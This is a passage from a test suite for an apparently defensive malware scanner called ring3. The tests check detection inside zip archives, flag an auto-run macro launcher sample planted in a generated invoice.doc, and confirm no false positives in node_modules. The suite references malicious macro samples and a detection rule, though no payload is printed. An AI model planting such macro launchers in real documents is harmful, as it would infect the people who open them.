      expect(missing).toEqual([]);
      for (const f of ["samples.zip", "nested.zip"]) expect(out.results.find((r: Json) => path.basename(r.path) === f && !r.members)?.verdict).toBe("detected");
      expect(out.summary).toMatchObject({ files: 2, detected: 2, partial: 0, error: 0 });
    } finally {
      fs.rmSync(d, { recursive: true, force: true });
    }
  });
});

describe("Office macros inside documents", () => {
  it("finds the auto-run launcher in a .doc's VBA project (a member), and nothing in a formatting AutoOpen", () => {
    const d = tempDir("ring3-sigs-doc-");
    try {
      const doc = (source: string) =>
        F.cfb([{ path: "WordDocument", data: new Uint8Array(600) }, ...F.vbaProject("Macros/", [{ name: "ThisDocument", source }])]);
      fs.writeFileSync(path.join(d, "invoice.doc"), doc(SAMPLES["office/ThisDocument.cls"]!.data as string));
      fs.writeFileSync(path.join(d, "letter.doc"), doc(BENIGN["benign/office/FormatDoc.bas"]!));
      const run = ring3(["scan", "--format", "json", "--pack", "ring3", d], { timeout: 300_000 });
      expect(run.code, run.stderr).toBe(1);
      const out = json(run);
      const hit = out.results.find((r: Json) => path.basename(r.path) === "invoice.doc" && JSON.stringify(r.members ?? []) === '["Macros/VBA/ThisDocument.vba"]');
      expect(hit?.verdict).toBe("detected");
      expect(hit.findings.filter((f: Json) => f.engine === "yara").map((f: Json) => f.id)).toEqual(["ring3.office.macro_autorun_launcher"]);
      const detected = out.results.filter((r: Json) => r.verdict === "detected").map((r: Json) => path.basename(r.path));
      expect(detected).not.toContain("letter.doc");
      expect(out.summary).toMatchObject({ files: 2, detected: 1, partial: 0, error: 0 });
    } finally {
      fs.rmSync(d, { recursive: true, force: true });
    }
  });
});

describe("false positives", () => {
  it("finds nothing in the project's own node_modules", async () => {
    // Every default pack: a minute or two, so without blocking the test worker.
    const run = await ring3Async(["scan", "--format", "json", path.join(ROOT, "node_modules")]);
    const d = json(run);
    const hits = d.results.filter((r: Json) => r.verdict === "detected").map((r: Json) => `${r.path}: ${r.findings.map((f: Json) => f.rule).join(", ")}`);
    expect(hits).toEqual([]);
    expect(d.summary.detected).toBe(0);
    // Only files that were really scanned count as evidence.
    expect(d.summary.error).toBe(0);
    expect(d.summary.files).toBeGreaterThan(1000);
  }, 900_000);
});
